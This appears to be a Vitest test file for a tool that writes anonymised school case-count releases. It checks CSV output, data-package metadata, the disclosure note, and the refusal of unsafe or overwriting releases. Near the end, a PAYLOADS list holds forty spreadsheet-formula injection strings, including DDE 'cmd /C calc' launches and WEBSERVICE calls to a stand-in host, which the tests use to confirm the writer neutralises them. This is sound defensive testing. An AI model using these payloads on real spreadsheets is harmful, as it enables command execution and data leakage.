/** @file Files of a release: written, read back, audited, moved; or nothing at all. */
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { sha256 } from '../../../../electron/summaries/export/files';
import { writeRelease } from '../../../../electron/summaries/export/write-release';
import { runProtected } from '../../../../electron/summaries/protect/run-protected';
import { loadSolver, type Solver } from '../../../../electron/summaries/protect/solver';
import { ALL } from '../../../../shared/summaries/categories';
import { CODEBOOK, CODEBOOK_VERSION, type Dimension, type RuntimeCategories } from '../../../../shared/summaries/codebook';
import { neutralLabel } from '../../../../shared/summaries/labels';
import type { ProtectedTable } from '../../../../shared/summaries/release';
import { inventedFacts, seeded } from '../support';

let solver: Solver;
let root: string;
beforeAll(async () => {
  solver = await loadSolver();
});
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'release-'));
});
afterEach(() => rm(root, { recursive: true, force: true }));

const period = { label: '2025-26 autumn', from: '2025-09-01', to: '2025-12-19' };
const meta = { releaseId: 'R-2026-001', releasedOn: '2026-01-12', toolVersion: '0.1.0', predecessors: [] };

function released(dims: Dimension[], cases = 150, runtime?: RuntimeCategories): ProtectedTable {
  const request = { period, unit: 'cases' as const, k: 10, linked: [], dims: dims.map((dimension) => ({ dimension, grouping: 'fine' })) };
  const codes = runtime?.school?.map((school) => school.code) ?? ['only'];
  const facts = inventedFacts(6, cases).map((fact, i) => ({
    ...fact,
    values: { ...fact.values, school: codes[i % codes.length] ?? 'only' },
  }));
  return runProtected(facts, request, { solver, randomInt: seeded(6), budgetMs: 60_000, ...(runtime ? { runtime } : {}) }).table;
}

const read = async (dir: string, name: string) => readFile(join(dir, name), 'utf8');

describe('writeRelease', () => {
  it('writes a CSV that reads back as the table', async () => {
    const table = released(['age_band', 'outcome']);
    const dir = join(root, 'summary');
    const { files } = await writeRelease(dir, { tables: [table], meta });
    expect(files.map((f) => f.name)).toEqual(['datapackage.json', 'disclosure-note.md', 'tables/age_band-by-outcome.csv']);
    const text = await read(dir, 'tables/age_band-by-outcome.csv');
    expect(text).not.toMatch(/\r|^\uFEFF/);
    expect(text.endsWith('\n')).toBe(true);
    const { data, meta: parsed } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(parsed.fields).toEqual(['age_band', 'outcome', 'count', 'status']);
    expect(data).toHaveLength(table.cells.length);
    const label = (dimension: Dimension, code: string) =>
      code === ALL ? ALL : CODEBOOK[dimension].categories.find((c) => c.code === code)?.label;
    for (const [i, cell] of table.cells.entries()) {
      expect(data[i]).toEqual({
        age_band: label('age_band', cell.at[0] ?? ''),
        outcome: label('outcome', cell.at[1] ?? ''),
        count: cell.status === 'withheld' ? '' : String(cell.count),
        status: cell.status,
      });
    }
    expect(data.filter((row) => row.status === 'withheld').length).toBe(table.withheld);
    for (const file of files) {
      const bytes = await readFile(join(dir, file.name));
      expect([file.bytes, file.sha256]).toEqual([bytes.byteLength, sha256(bytes)]);
    }
    expect(await readdir(root)).toEqual(['summary']);
  });

  it('describes the CSV as a data package with how it was protected', async () => {
    const table = released(['age_band', 'outcome']);
    const { files } = await writeRelease(join(root, 'a'), { tables: [table], meta });
    const description = JSON.parse(await read(join(root, 'a'), 'datapackage.json'));
    const [resource] = description.resources;
    expect(resource.schema.missingValues).toEqual(['']);
    expect(resource.schema.fields.map((f: { name: string; type: string }) => [f.name, f.type])).toEqual([
      ['age_band', 'string'],
      ['outcome', 'string'],
      ['count', 'integer'],
      ['status', 'string'],
    ]);
    expect(resource.schema.fields.at(-1).constraints.enum).toEqual(['shown', 'withheld', 'impossible']);
    expect(resource.hash).toBe(`sha256:${files.find((f) => f.name.endsWith('.csv'))?.sha256}`);
    expect(description.sdc).toMatchObject({
      k: 10,
      width: 10,
      unit: 'cases',
      population: 150,
      withheld: table.withheld,
      period,
      codebook: CODEBOOK_VERSION,
      release: 'R-2026-001',
      released: '2026-01-12',
      predecessors: [],
      toolVersion: '0.1.0',
    });
    expect(JSON.stringify(description)).not.toMatch(/\d{2}:\d{2}|author|primary"|witness(?!es)/);
  });

  it('explains itself in plain words', async () => {
    const table = released(['age_band', 'outcome']);
    await writeRelease(join(root, 'a'), { tables: [table], meta });
    const note = await read(join(root, 'a'), 'disclosure-note.md');
    for (const word of [
      '150 in all',
      `${table.withheld} are withheld`,
      'For a parent',
      'For a data-protection officer',
      'What risk remains',
      'How to cite',
      'R-2026-001',
      'Threshold k = 10',
    ]) {
      expect(note).toContain(word);
    }
    expect(note).not.toMatch(/undefined|NaN|\[object/);
  });

  it('writes the same bytes for the same random numbers', async () => {
    const first = await writeRelease(join(root, 'a'), { tables: [released(['age_band', 'process'])], meta });
    const second = await writeRelease(join(root, 'b'), { tables: [released(['age_band', 'process'])], meta });
    expect(first).toEqual(second);
  });

  it('writes the total alone when only that is left', async () => {
    const table: ProtectedTable = {
      ...released(['age_band']),
      dims: [],
      cells: [{ at: [], status: 'shown', count: 150 }],
      withheld: 0,
      reduced: true,
    };
    await writeRelease(join(root, 'a'), { tables: [table], meta });
    expect(await read(join(root, 'a'), 'tables/total.csv')).toBe('count,status\n150,shown\n');
    expect(await read(join(root, 'a'), 'disclosure-note.md')).toContain('Only the total is given');
  });

  it('refuses a table that the audit can see through and leaves nothing behind', async () => {
    const table = released(['age_band', 'outcome']);
    const truth = inventedFacts(6, 150);
    let refused = 0;
    for (const [index, cell] of table.cells.entries()) {
      if (cell.status !== 'withheld') continue;
      const count = truth.filter((fact) =>
        cell.at.every((code, axis) => code === ALL || fact.values[axis === 0 ? 'age_band' : 'outcome'] === code),
      ).length;
      // Of larger ones the bytes cannot tell that few students stand behind them; those are the gate's (gate.test.ts).
      if (count === 0 || count >= 10) continue;
      const shown = { ...table, withheld: table.withheld - 1, cells: table.cells.with(index, { at: cell.at, status: 'shown', count }) };
      await expect(writeRelease(join(root, 'x'), { tables: [shown], meta })).rejects.toMatchObject({ error: { kind: 'not-proven' } });
      expect(await readdir(root)).toEqual([]);
      refused += 1;
    }
    expect(refused).toBeGreaterThan(10);
  });

  it('never overwrites and never leaves a temporary folder', async () => {
    const table = released(['age_band']);
    const used = join(root, 'used');
    await mkdir(used);
    await writeFile(join(used, 'mine.txt'), 'mine');
    await expect(writeRelease(used, { tables: [table], meta })).rejects.toMatchObject({ error: { kind: 'conflict' } });
    expect(await readdir(used)).toEqual(['mine.txt']);
    await expect(writeRelease(join(used, 'mine.txt'), { tables: [table], meta })).rejects.toMatchObject({ error: { kind: 'conflict' } });
    await expect(writeRelease(join(root, 'no', 'such'), { tables: [table], meta })).rejects.toMatchObject({ error: { kind: 'not-found' } });
    await mkdir(join(root, 'empty'));
    expect((await writeRelease(join(root, 'empty'), { tables: [table], meta })).files).toHaveLength(3);
    expect((await readdir(root)).sort()).toEqual(['empty', 'used']);
    await expect(writeRelease(join(root, 'y'), { tables: [table], meta: { ...meta, releaseId: '../up' } })).rejects.toMatchObject({
      error: { kind: 'invalid' },
    });
  });
});

/** What has been used to make a spreadsheet run something. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.invalid","click")',
  '=WEBSERVICE("http://x.invalid/"&A1)',
  '=IMPORTXML("http://x.invalid","//a")',
  '=IMPORTDATA("http://x.invalid")',
  '=IMAGE("http://x.invalid/a.png")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1',
  '""=1+1',
  '";=1+1',
  'North;=1+1',
  'North,=1+1',
  'North\t=1+1',
  'North\n=1+1',
  'North|=1+1',
  '%0A=1+1',
  '{=1+1}',
  '<script>alert(1)</script>',
  '![x](http://x.invalid/a.png)',
  '(=1+1)',
];

describe('labels', () => {
  it('has forty payloads', () => expect(new Set(PAYLOADS).size).toBe(40));

  it.each(PAYLOADS)('is harmless in every cell of the file: %j', async (payload) => {
    const school = [
      { code: 'a', label: payload },
      { code: 'b', label: 'Tern Bay High' },
    ];
    const dir = join(root, 'a');
    const { files } = await writeRelease(dir, {
      tables: [{ ...released(['school'], 60, { school }), period: { ...period, label: `autumn ${payload}` } }],
      meta,
    });
    for (const { name } of files.filter((f) => f.name.endsWith('.csv'))) {
      const text = await read(dir, name);
      for (const piece of text.split(/[\n,;|\t"']/)) expect(piece.trim()).not.toMatch(/^[=+\-@＝＋－＠%{<!]/);
      expect(text).not.toMatch(/[=@|"<>\t\r!]/);
      expect(text.trimEnd().split('\n')).toHaveLength(4);
    }
    expect(await read(dir, 'disclosure-note.md')).not.toMatch(/<script|!\[|:\/\//);
    expect(await read(dir, 'datapackage.json')).not.toContain('//x');
  });

  it('keeps names as people write them', () => {
    for (const name of [
      "St. Brigid's School (Lower)",
      'École Élémentaire',
      'Ñandú Primary & Nursery',
      'Quillmere Middle 2',
      '北湾高校',
      'Tern Bay – High/Senior',
    ]) {
      expect(neutralLabel(name)).toBe(name);
    }
  });

  it('refuses schools that would look the same, empty, or like the margin', async () => {
    for (const label of ['=Tern Bay High', 'tern bay high', 'All', '=ALL', '+++']) {
      const school = [
        { code: 'a', label },
        { code: 'b', label: 'Tern Bay High' },
      ];
      await expect(writeRelease(join(root, 'a'), { tables: [released(['school'], 60, { school })], meta })).rejects.toMatchObject({
        error: { kind: 'invalid' },
      });
      expect(await readdir(root)).toEqual([]);
    }
  });
});
